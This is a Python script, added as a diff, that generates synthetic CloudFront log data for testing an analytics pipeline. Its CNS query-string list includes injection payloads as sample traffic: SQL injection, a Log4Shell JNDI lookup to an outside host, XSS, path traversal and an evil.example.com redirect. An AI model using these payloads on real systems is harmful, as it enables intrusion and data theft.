@@ -0,0 +1,414 @@
+#!/usr/bin/env python3
+"""
+Synthetic CloudFront logs for testing and benchmarking the pipeline without
+the private parquet files.
+
+Writes a directory of parquet files with the exact columns and types of
+`public/data/hra/parquet_field_dictionary.json` (CNS keeps its `year`/
+`month`/`day` as strings, as its real export does). Every value is derived
+from a hash of the row number and `--seed`, so a given size and seed always
+produces the same files. The distributions follow the real logs closely
+enough to exercise every aggregation:
+  - traffic mix of ~78% Likely Human, ~19% Bot, ~3% AI crawlers
+  - a skewed visitor population (few heavy anon_ids, a long tail), with
+    one session per visitor and day, over a handful of visits
+  - HRA: Apps tool pages and assets, CDN hops, and Events `/tr` pings whose
+    `query` MAP holds sessionId/app/event/path and the `e.*` payload,
+    including the recurring error messages of each error bucket
+  - CNS: publications/presentations PDFs, workshops, team pages, scanner
+    probes, dead links and injection attempts in the query string
+  - `--duplicates` of the rows delivered twice (exact copies, same request id)
+
+The rows are written in chunks of `--chunk-rows`, one file each, so the
+100M-row scale fits in a bounded amount of memory.
+
+Usage:
+    python data_processing/generate_synthetic_logs.py --site hra --rows 1M --out data/synthetic/hra-1M
+    python data_processing/generate_synthetic_logs.py --site cns --rows 10M --duplicates 0.04 --memory-limit 4GB
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import time
+from pathlib import Path
+from typing import Any, Mapping, Sequence
+
+import duckdb
+
+from generate_cns_data import PARTITION_TYPES as CNS_PARTITION_TYPES
+from generate_hra_data import PARTITION_TYPES as HRA_PARTITION_TYPES
+from runtime_config import add_runtime_args, apply_runtime, runtime_config
+
+FIELD_DICTIONARY = Path(__file__).resolve().parent.parent / "public" / "data" / "hra" / "parquet_field_dictionary.json"
+MANIFEST = "manifest.json"
+SITES = ("hra", "cns")
+DEFAULT_CHUNK_ROWS = 5_000_000
+DEFAULT_DUPLICATES = 0.01
+# Generator changes that alter the rows bump this, so cached datasets are rebuilt
+GENERATOR_VERSION = 1
+
+TRAFFIC_TYPES = (("Likely Human", 78.0), ("Bot", 19.4), ("AI-Assistant / Bot", 2.6))
+COUNTRIES = (
+    ("US", 46), ("DE", 7), ("GB", 6), ("CN", 6), ("IN", 5), ("FR", 4), ("CA", 3), ("JP", 3),
+    ("BR", 2), ("NL", 2), ("KR", 2), ("IT", 2), ("-", 2), ("SG", 1), ("AU", 1), ("ES", 1),
+    ("SE", 1), ("RU", 1), ("IE", 1), ("CH", 1),
+)
+AIRPORTS = {"US": "IAD", "DE": "FRA", "GB": "LHR", "CN": "HKG", "IN": "BOM", "FR": "CDG", "CA": "YUL",
+            "JP": "NRT", "BR": "GRU", "NL": "AMS", "KR": "ICN", "IT": "MXP", "SG": "SIN", "AU": "SYD"}
+USER_AGENTS = (
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36", 40),
+    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15", 20),
+    ("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", 12),
+    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 10),
+    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 6),
+    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", 3),
+    ("python-requests/2.31.0", 5),
+    ("curl/8.4.0", 4),
+)
+STATUSES = ((200, 82), (304, 8), (404, 6), (500, 2), (403, 1), (301, 1))
+
+HRA_SITES = (("Events", 45), ("Apps", 35), ("CDN", 20))
+HRA_APP_STEMS = (
+    ("/kg-explorer/", 30), ("/eui/", 9), ("/rui/", 4), ("/cde/", 4), ("/ftu-explorer/", 3),
+    ("/", 8), ("/index.html", 4), ("/main.js", 10), ("/styles.css", 6), ("/polyfills.js", 4),
+    ("/assets/icons/logo.svg", 4), ("/api/v1/technology-names", 3), ("/api/v1/ontology-terms", 2),
+    ("/assets/data.json", 3), ("/assets/fonts/inter.woff2", 2), ("/favicon.ico", 2),
+)
+HRA_CDN_STEMS = (
+    ("/ccf-eui/main.js", 20), ("/ccf-rui/main.js", 10), ("/ftu-ui/styles.css", 8), ("/cde-ui/main.js", 6),
+    ("/assets/models/VH_F_Kidney_L.glb", 8), ("/assets/icons/organ.svg", 10), ("/digital-objects/data.json", 12),
+    ("/fonts/material.woff2", 6), ("/images/hra.png", 8), ("/ontology.graphql", 4), ("/docs/index.html", 8),
+)
+HRA_APPS = (("kg-explorer", 30), ("ccf-eui", 25), ("ccf-rui", 12), ("cde-ui", 10), ("ftu-ui", 10),
+            ("ftu-ui-small-wc", 5), ("humanatlas", 8))
+HRA_EVENTS = (("click", 45), ("hover", 15), ("pageView", 18), ("keyboard", 8), ("error", 9), ("initialized", 5))
+HRA_PATHS = (
+    ("spatial-search.button.open", 8), ("filter.sex.female", 5), ("filter.organ.kidney", 6), ("results.item", 9),
+    ("viewer.opacity", 6), ("nav.home", 8), ("nav.docs", 4), ("tab.ontology", 5), ("tab.cell-types", 5),
+    ("register.button.save", 4), ("register.slider.rotate", 4), ("cde.upload.csv", 4), ("cde.visualize", 3),
+    ("ftu.illustration.cell", 6), ("kg.search.input", 9), ("kg.graph.node", 7), ("footer.link", 2),
+)
+HRA_ORGANS = (("Kidney", 20), ("Heart", 16), ("Lung", 14), ("Liver", 10), ("Brain", 9), ("Skin", 6),
+              ("Spleen", 5), ("CenterY_global_px", 4), ("Large Intestine", 8), ("Pancreas", 8))
+HRA_TABS = (("Ontology", 40), ("Cell Types", 30), ("Biomarkers", 20), ("Datasets", 10))
+HRA_ACTIONS = (("Click", 50), ("Hover", 20), ("Open", 12), ("Close", 8), ("Toggle", 6), ("Submit", 4))
+# One or two messages per error bucket, most frequent first
+HRA_ERRORS = (
+    ("Http failure response for https://apps.humanatlas.io/api/v1/technology-names: 0 Unknown Error", 28),
+    ("Error retrieving icon organ-kidney! Unable to find icon with the name", 14),
+    ("Cannot read properties of null (reading '0')", 12),
+    ("[object Object]", 10),
+    ("Http failure response for https://cdn.humanatlas.io/digital-objects/data.yaml: 404 Not Found", 8),
+    ("Http failure response for http://127.0.0.1:8080/api/v1/ontology: 0 Unknown Error", 6),
+    ("Http failure response for https://apps.humanatlas.io/api/v1/sparql: 504 Gateway Timeout", 6),
+    ("NG0100: ExpressionChangedAfterItHasBeenCheckedError. Expression has changed after it was checked", 5),
+    ("this.viewer.setCamera is not a function", 4),
+    ("Cannot read properties of undefined (reading 'length')", 4),
+    ("Http failure response for https://cdn.humanatlas.io/assets/links.yml: 404 Not Found", 3),
+)
+HRA_REFERRERS = (
+    ("-", 55), ("https://www.google.com/", 12), ("https://humanatlas.io/", 10), ("https://gtexportal.org/home/", 6),
+    ("https://hubmapconsortium.org/", 5), ("https://portal.hubmapconsortium.org/", 3), ("https://www.ebi.ac.uk/ols4/", 3),
+    ("https://data.sennetconsortium.org/", 2), ("https://vitessce.io/", 1), ("https://github.com/", 3),
+)
+
+CNS_STEMS = (
+    ("/", 16), ("/publications.html", 6), ("/docs/publications/{n}.pdf", 14), ("/docs/presentations/{n}.pdf", 5),
+    ("/docs/news/{n}.pdf", 2), ("/docs/handouts/{n}.pdf", 1), ("/workshops/{n}.html", 5), ("/workshops.html", 2),
+    ("/current_team.html", 3), ("/current_team/bio/member_{n}.html", 3), ("/images/people/member_{n}.png", 4),
+    ("/events_calendar.html", 2), ("/contact.html", 2), ("/research.html", 3), ("/main.css", 6),
+    ("/images/logo.png", 5), ("/favicon.ico", 3), ("/wp-login.php", 3), ("/wp-admin/setup-config.php", 1),
+    ("/cgi-bin/test.cgi", 1), ("/+CSCOT+/translation-table", 1), ("/scripts/setup.php", 1),
+    ("//docs/publications/{n}.pdf", 1), ("/docs/publications/{n}.pdf/", 1), ("/events/{n}.html", 2),
+    ("/missing/page_{n}.html", 2),
+)
+CNS_QUERIES = (("-", 93), ("q=network+science", 2), ("utm_source=newsletter", 2), ("url=http://evil.example.com", 1),
+               ("id=1 UNION SELECT password FROM users", 0.6), ("x=${jndi:ldap://x.example.com/a}", 0.4),
+               ("s=<script>alert(1)</script>", 0.5), ("file=../../etc/passwd", 0.5))
+CNS_REFERRERS = (
+    ("-", 50), ("https://www.google.com/", 20), ("https://scholar.google.com/", 8), ("https://www.bing.com/", 5),
+    ("https://cns.iu.edu/", 7), ("https://duckduckgo.com/", 2), ("https://en.wikipedia.org/", 3),
+    ("https://iu.edu/", 2), ("https://www.facebook.com/", 1), ("https://t.co/", 1), ("https://scimaps.org/", 1),
+)
+
+# Site profiles: host, CloudFront distribution, date range and the columns that differ
+PROFILES: dict[str, dict[str, Any]] = {
+    "hra": {
+        "host": "apps.humanatlas.io", "distribution": "E1HRAVIZ0EXAMPLE", "start": "2023-06-01", "days": 1040,
+        "partition_types": HRA_PARTITION_TYPES, "result_type": True,
+    },
+    "cns": {
+        "host": "cns.iu.edu", "distribution": "E2CNSIU0EXAMPLE", "start": "2008-04-01", "days": 6570,
+        "partition_types": CNS_PARTITION_TYPES, "result_type": False,
+    },
+}
+
+
+def parse_rows(value: str) -> int:
+    """Row count from `1000`, `250k`, `1M`, `1.5M`, `1B`."""
+    text = str(value).strip().upper().replace("_", "")
+    scale = {"K": 10**3, "M": 10**6, "B": 10**9}.get(text[-1:], 1)
+    number = float(text[:-1] if scale > 1 else text)
+    if number <= 0:
+        raise ValueError(f"Row count must be positive: {value}")
+    return int(number * scale)
+
+
+def format_rows(rows: int) -> str:
+    """Short label of a row count (1000000 → `1M`), used to name the datasets."""
+    for suffix, scale in (("B", 10**9), ("M", 10**6), ("k", 10**3)):
+        if rows >= scale and rows % scale == 0:
+            return f"{rows // scale}{suffix}"
+    return str(rows)
+
+
+def default_out(site: str, rows: int, seed: int, data_dir: str = "data/synthetic") -> str:
+    return os.path.join(data_dir, f"{site}-{format_rows(rows)}-seed{seed}")
+
+
+def field_types(path: str | Path = FIELD_DICTIONARY) -> dict[str, str]:
+    """`{column: type}` in the order of the parquet field dictionary."""
+    with open(path, encoding="utf-8") as f:
+        return {field["field"]: field["type"] for field in json.load(f)["fields"]}
+
+
+def _literal(value: Any) -> str:
+    if isinstance(value, str):
+        return "'" + value.replace("'", "''") + "'"
+    return str(value)
+
+
+def _u(salt: int, seed: int) -> str:
+    """Uniform [0, 1) draw of the current row for `salt`."""
+    return f"((hash(i, {seed}, {salt}) % 1000000) / 1000000.0)"
+
+
+def _pick(choices: Sequence[tuple[Any, float]], salt: int, seed: int) -> str:
+    """CASE choosing one of `choices` with probability proportional to its weight."""
+    total = sum(weight for _, weight in choices)
+    u, acc, whens = _u(salt, seed), 0.0, []
+    for value, weight in choices[:-1]:
+        acc += weight / total
+        whens.append(f"WHEN {u} < {acc:.6f} THEN {_literal(value)}")
+    return f"CASE {' '.join(whens)} ELSE {_literal(choices[-1][0])} END"
+
+
+def _skewed(n: int, salt: int, seed: int, power: float = 2.5) -> str:
+    """Integer in [0, n) where small values are much more frequent (heavy head, long tail)."""
+    return f"least({n - 1}, floor(pow({_u(salt, seed)}, {power}) * {n}))::BIGINT"
+
+
+def _templated(choices: Sequence[tuple[str, float]], salt: int, seed: int, distinct: int) -> str:
+    """`_pick` of URI templates; `{n}` becomes a skewed item number (a popular PDF, a team member, …)."""
+    number = f"lpad({_skewed(distinct, salt + 1, seed, 3.0)}::VARCHAR, 4, '0')"
+    return f"replace({_pick(choices, salt, seed)}, '{{n}}', {number})"
+
+
+def _event_query(seed: int) -> str:
+    """The `query` MAP of an Events `/tr` ping; `e.*` keys are only present when they apply."""
+    event = "event_name"
+    entries = {
+        "sessionId": "session_id",
+        "app": "app_name",
+        "event": event,
+        "path": _pick(HRA_PATHS, 41, seed),
+        "e.label": f"CASE WHEN {event} IN ('click', 'hover') THEN {_pick(HRA_ORGANS, 42, seed)} END",
+        "e.action": f"CASE WHEN {event} IN ('click', 'hover', 'keyboard') THEN {_pick(HRA_ACTIONS, 43, seed)} END",
+        "e.tab": f"CASE WHEN {event} = 'click' AND {_u(44, seed)} < 0.3 THEN {_pick(HRA_TABS, 45, seed)} END",
+        "e.value": f"CASE WHEN {event} = 'click' AND {_u(46, seed)} < 0.4 THEN {_pick(HRA_ORGANS, 47, seed)} END",
+        "e.path": f"CASE WHEN {event} = 'pageView' THEN '/' || {_pick(HRA_PATHS, 48, seed)} END",
+        "e.reason.message": f"CASE WHEN {event} = 'error' THEN {_pick(HRA_ERRORS, 49, seed)} END",
+        "e.reason.stack": f"CASE WHEN {event} = 'error' AND {_u(50, seed)} < 0.5 THEN 'at main.js:1:' || {_skewed(90000, 51, seed)} END",
+    }
+    structs = ", ".join(f"{{'k': '{key}', 'v': {value}}}" for key, value in entries.items())
+    return f"map_from_entries(list_filter([{structs}], e -> e.v IS NOT NULL))"
+
+
+def column_expressions(site: str, rows: int, seed: int) -> dict[str, str]:
+    """SQL of every log column for row `i` (plus the helper columns of `_base`)."""
+    profile = PROFILES[site]
+    hra = site == "hra"
+    visitors = max(100, rows // 40)
+    static = r"regexp_matches(cs_uri_stem, '\.(js|css|svg|png|ico|woff2?|glb|json)$')"
+    if hra:
+        stem = f"""CASE site
+            WHEN 'Events' THEN CASE WHEN {_u(20, seed)} < 0.97 THEN '/tr' ELSE '/tr/health' END
+            WHEN 'Apps' THEN {_pick(HRA_APP_STEMS, 21, seed)}
+            ELSE {_pick(HRA_CDN_STEMS, 22, seed)} END"""
+        query_string = "CASE WHEN cs_uri_stem = '/tr' THEN 'event=' || event_name || '&app=' || app_name ELSE '-' END"
+        query = f"CASE WHEN cs_uri_stem = '/tr' THEN {_event_query(seed)} ELSE MAP {{}}::MAP(VARCHAR, VARCHAR) END"
+        referrers = HRA_REFERRERS
+    else:
+        stem = _templated(CNS_STEMS, 20, seed, 600)
+        query_string = _pick(CNS_QUERIES, 22, seed)
+        query = "MAP {}::MAP(VARCHAR, VARCHAR)"
+        referrers = CNS_REFERRERS
+    # Bots hit missing pages and probes more often; scanner paths mostly 404
+    status = f"""CASE
+        WHEN cs_uri_stem LIKE '/missing/%' OR cs_uri_stem LIKE '/wp-%' OR cs_uri_stem LIKE '/cgi-bin/%' THEN 404
+        WHEN traffic_type <> 'Likely Human' AND {_u(24, seed)} < 0.1 THEN 404
+        ELSE {_pick(STATUSES, 25, seed)} END"""
+    result = "CASE WHEN sc_status >= 400 THEN 'Error' WHEN u_cache < 0.7 THEN 'Hit' ELSE 'Miss' END"
+    airports = " ".join(f"WHEN '{country}' THEN '{code}'" for country, code in AIRPORTS.items())
+    partition = profile["partition_types"]
+    return {
+        # Helper columns (dropped from the output)
+        "visitor": _skewed(visitors, 1, seed),
+        # A visitor arrives on its first day (later days are busier) and comes back on up to three later days
+        "first_day": f"floor(pow((hash(visitor, {seed}, 30) % 1000000) / 1000000.0, 0.8) * {profile['days']})::INTEGER",
+        "visit": f"floor(pow({_u(2, seed)}, 2) * 4)::INTEGER",
+        "date": f"DATE '{profile['start']}' + least({profile['days'] - 1}, first_day + (hash(visitor, {seed}, 31 + visit) % 90)::INTEGER * (visit > 0)::INTEGER)",
+        # Daytime-heavy hours: most of the traffic between 13:00 and 22:00 UTC
+        "hour": f"(floor(13 + 12 * ({_u(3, seed)} + {_u(4, seed)} - 1)) + 24)::INTEGER % 24",
+        "second": f"floor({_u(5, seed)} * 3600)::INTEGER",
+        "u_cache": _u(6, seed),
+        "traffic_type": _pick(TRAFFIC_TYPES, 7, seed),
+        "site": _pick(HRA_SITES, 8, seed) if hra else "'CNS'",
+        "event_name": _pick(HRA_EVENTS, 9, seed) if hra else "NULL",
+        "app_name": _pick(HRA_APPS, 40, seed) if hra else "NULL",
+        # A visitor's session is one day; a few clients never set the id
+        "session_id": f"CASE WHEN {_u(10, seed)} < 0.01 THEN 'TODO' ELSE substr(md5('s' || visitor || date), 1, 20) END",
+        "c_country": _pick(COUNTRIES, 11, seed),
+        "cs_uri_stem": stem,
+        "sc_status": status,
+        # Log columns
+        "anon_id": f"substr(md5('{site}{seed}-' || visitor), 1, 16)",
+        "time": "lpad(hour::VARCHAR, 2, '0') || ':' || lpad((second // 60)::VARCHAR, 2, '0') || ':' || lpad((second % 60)::VARCHAR, 2, '0')",
+        "x_edge_location": f"CASE c_country {airports} ELSE 'IAD' END || (1 + {_skewed(80, 12, seed)} % 80)::VARCHAR || '-C1'",
+        "sc_bytes": f"CASE WHEN {static} THEN 20000 + {_skewed(900000, 13, seed)} ELSE 400 + {_skewed(60000, 14, seed)} END",
+        "cs_method": f"CASE WHEN cs_uri_stem = '/tr' OR {_u(15, seed)} < 0.97 THEN 'GET' ELSE 'POST' END",
+        "cs_referer": _pick(referrers, 23, seed),
+        "cs_user_agent": f"CASE WHEN traffic_type = 'Likely Human' THEN {_pick(USER_AGENTS[:3], 16, seed)} ELSE {_pick(USER_AGENTS[3:], 17, seed)} END",
+        "cs_uri_query": query_string,
+        "cs_cookie": "'-'",
+        "x_edge_result_type": result if profile["result_type"] else "NULL",
+        # 56 characters like CloudFront's ids, unique per distinct row
+        "x_edge_request_id": f"to_base64(unhex(sha256('{site}{seed}:' || i) || left(md5('{site}{seed}:' || i), 20)))",
+        "x_host_header": f"'{profile['host']}'",
+        "cs_protocol": "'https'",
+        "cs_bytes": f"200 + {_skewed(3000, 18, seed)}",
+        "time_taken": f"round(0.001 + pow({_u(19, seed)}, 4) * 3.0, 3)",
+        "ssl_protocol": "'TLSv1.3'",
+        "ssl_cipher": "'TLS_AES_128_GCM_SHA256'",
+        "x_edge_response_result_type": result if profile["result_type"] else "NULL",
+        "cs_protocol_version": f"CASE WHEN {_u(26, seed)} < 0.8 THEN 'HTTP/2.0' ELSE 'HTTP/1.1' END",
+        "time_to_first_byte": f"round(0.001 + pow({_u(19, seed)}, 4) * 2.5, 3)",
+        "x_edge_detailed_result_type": result if profile["result_type"] else "NULL",
+        "sc_content_type": f"""CASE
+            WHEN cs_uri_stem LIKE '%.pdf' THEN 'application/pdf'
+            WHEN cs_uri_stem LIKE '%.js' THEN 'application/javascript'
+            WHEN cs_uri_stem LIKE '%.css' THEN 'text/css'
+            WHEN cs_uri_stem LIKE '%.json' OR cs_uri_stem LIKE '/api/%' OR cs_uri_stem = '/tr' THEN 'application/json'
+            WHEN regexp_matches(cs_uri_stem, '\\.(png|svg|ico)$') THEN 'image/' || split_part(cs_uri_stem, '.', -1)
+            ELSE 'text/html' END""",
+        "sc_content_len": "sc_bytes - 350",
+        "sc_range_start": "NULL",
+        "sc_range_end": "NULL",
+        "timestamp": "epoch(date::TIMESTAMP)::BIGINT + hour * 3600 + second",
+        "timestamp_ms": f"(epoch(date::TIMESTAMP)::BIGINT + hour * 3600 + second) * 1000 + floor({_u(27, seed)} * 1000)::BIGINT",
+        "query": query,
+        "referrer": _pick(referrers, 28, seed),
+        "airport": f"CASE c_country {airports} ELSE 'IAD' END",
+        "month": f"month(date)::{partition['month']}",
+        "day": f"day(date)::{partition['day']}",
+        "distribution": f"'{profile['distribution']}'",
+        "year": f"year(date)::{partition['year']}",
+    }
+
+
+def chunk_query(site: str, rows: int, seed: int, start: int, stop: int, duplicates: float,
+                types: Mapping[str, str]) -> str:
+    """SELECT of rows [start, stop) in the dictionary's column order, plus their redelivered copies."""
+    exprs = column_expressions(site, rows, seed)
+    missing = [column for column in types if column not in exprs]
+    if missing:
+        raise ValueError(f"No generator for columns: {', '.join(missing)}")
+    partition = PROFILES[site]["partition_types"]
+    # Each helper column can read the ones defined before it
+    layers, defined = [], ["i"]
+    for name, sql in exprs.items():
+        layers.append(f"(SELECT *, {sql} AS \"{name}\" FROM {{prev}})")
+        defined.append(name)
+    source = f"(SELECT range AS i FROM range({start}, {stop}))"
+    for layer in layers:
+        source = layer.replace("{prev}", source, 1)
+    projection = ", ".join(f"CAST(\"{c}\" AS {partition.get(c, t)}) AS \"{c}\"" for c, t in types.items())
+    return f"""
+        WITH base AS MATERIALIZED ({source})
+        SELECT {projection} FROM base
+        UNION ALL
+        SELECT {projection} FROM base WHERE {_u(99, seed)} < {duplicates}
+    """
+
+
+def generate(
+    out: str,
+    rows: int,
+    site: str = "hra",
+    seed: int = 42,
+    duplicates: float = DEFAULT_DUPLICATES,
+    chunk_rows: int = DEFAULT_CHUNK_ROWS,
+    con: duckdb.DuckDBPyConnection | None = None,
+) -> dict[str, Any]:
+    """Write `rows` distinct log rows (plus duplicates) of `site` under `out`; returns the manifest."""
+    if site not in PROFILES:
+        raise ValueError(f"Unknown site {site!r}; expected one of {', '.join(SITES)}")
+    started = time.perf_counter()
+    con = con or duckdb.connect()
+    types = field_types()
+    os.makedirs(out, exist_ok=True)
+    files, written = [], 0
+    for n, start in enumerate(range(0, rows, chunk_rows)):
+        path = os.path.join(out, f"part-{n:05d}.parquet")
+        sql = chunk_query(site, rows, seed, start, min(rows, start + chunk_rows), duplicates, types)
+        con.execute(f"COPY ({sql}) TO '{path}' (FORMAT PARQUET, ROW_GROUP_SIZE 122880)")
+        written += con.execute(f"SELECT count(*) FROM read_parquet('{path}')").fetchone()[0]
+        files.append(os.path.basename(path))
+    manifest = {
+        "site": site, "rows": rows, "seed": seed, "duplicates": duplicates, "chunk_rows": chunk_rows,
+        "generator_version": GENERATOR_VERSION, "written_rows": written, "files": files,
+        "seconds": round(time.perf_counter() - started, 2),
+    }
+    with open(os.path.join(out, MANIFEST), "w", encoding="utf-8") as f:
+        json.dump(manifest, f, indent=2)
+    return manifest
+
+
+def matches(out: str, rows: int, site: str, seed: int, duplicates: float) -> bool:
+    """True when `out` already holds this dataset (same size, seed, duplicates and generator)."""
+    try:
+        with open(os.path.join(out, MANIFEST), encoding="utf-8") as f:
+            manifest = json.load(f)
+    except (OSError, ValueError):
+        return False
+    expected = {"site": site, "rows": rows, "seed": seed, "duplicates": duplicates, "generator_version": GENERATOR_VERSION}
+    return all(manifest.get(k) == v for k, v in expected.items()) and all(
+        os.path.exists(os.path.join(out, name)) for name in manifest.get("files", [])
+    )
+
+
+def parse_args():
+    p = argparse.ArgumentParser(description="Generate synthetic CloudFront parquet logs with the HRA/CNS schema")
+    p.add_argument("--site", choices=SITES, default="hra", help="Which site's paths, hosts and dates to mimic")
+    p.add_argument("--rows", type=parse_rows, default=parse_rows("1M"), help="Distinct rows, e.g. 1M, 10M, 100M (default 1M)")
+    p.add_argument("--out", default=None, help="Output directory (default data/synthetic/<site>-<rows>-seed<seed>)")
+    p.add_argument("--seed", type=int, default=42, help="Seed of every generated value")
+    p.add_argument("--duplicates", type=float, default=DEFAULT_DUPLICATES,
+                   help=f"Fraction of rows delivered twice (default {DEFAULT_DUPLICATES})")
+    p.add_argument("--chunk-rows", type=parse_rows, default=DEFAULT_CHUNK_ROWS,
+                   help="Rows per parquet file; bounds the memory of each write (default 5M)")
+    add_runtime_args(p)
+    return p.parse_args()
+
+
+if __name__ == "__main__":
+    args = parse_args()
+    out = args.out or default_out(args.site, args.rows, args.seed)
+    con = duckdb.connect()
+    apply_runtime(con, runtime_config(args))
+    manifest = generate(out, args.rows, args.site, args.seed, args.duplicates, args.chunk_rows, con)
+    print(f"Wrote {manifest['written_rows']:,} rows ({manifest['rows']:,} distinct) in "
+          f"{len(manifest['files'])} files to {out}/ ({manifest['seconds']:.1f}s)")